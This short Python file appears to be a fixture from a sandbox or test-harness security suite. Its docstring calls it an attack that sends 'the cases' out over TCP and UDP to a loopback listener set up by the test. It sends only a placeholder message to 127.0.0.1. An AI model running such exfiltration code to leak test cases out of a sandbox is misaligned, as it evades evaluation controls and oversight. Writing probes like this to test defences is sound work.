"""Attack: send the cases out over TCP and UDP to a listener on the loopback interface.
affects:
"""
import socket

LISTENER_PORT = 0  # the test puts its listener's port here

for _family, _kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_DGRAM)):
    try:
        _s = socket.socket(_family, _kind)
        _s.settimeout(1)
        _s.connect(("127.0.0.1", LISTENER_PORT))
        _s.send(b"exfiltrated cases")
    except OSError:
        pass
